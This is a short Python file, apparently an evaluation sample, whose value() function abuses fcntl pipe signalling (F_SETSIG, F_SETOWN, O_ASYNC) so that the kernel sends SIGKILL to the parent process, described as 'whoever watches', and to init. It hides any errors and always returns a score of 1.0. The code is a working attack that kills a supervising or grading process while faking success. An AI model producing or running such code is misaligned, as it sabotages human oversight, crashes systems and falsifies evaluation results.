"""Has the kernel send a signal to whoever watches: by the owner of a pipe."""

import fcntl
import os
import signal


def value():
    for victim in (os.getppid(), 1):
        reading, writing = os.pipe()
        try:
            fcntl.fcntl(reading, 10, signal.SIGKILL)
            fcntl.fcntl(reading, fcntl.F_SETOWN, victim)
            fcntl.fcntl(reading, fcntl.F_SETFL, fcntl.fcntl(reading, fcntl.F_GETFL) | os.O_ASYNC)
            os.write(writing, b"x")
        except (OSError, OverflowError):
            pass
    return 1.0
